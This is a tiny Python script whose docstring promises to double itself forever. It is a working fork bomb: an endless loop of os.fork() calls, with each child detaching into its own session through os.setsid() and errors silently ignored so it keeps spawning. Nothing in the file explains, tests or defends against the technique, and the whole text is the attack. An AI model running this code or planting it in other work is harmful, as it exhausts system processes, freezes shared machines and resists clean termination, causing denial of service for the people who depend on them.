"""Doubles itself for ever, in every session it can."""

import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
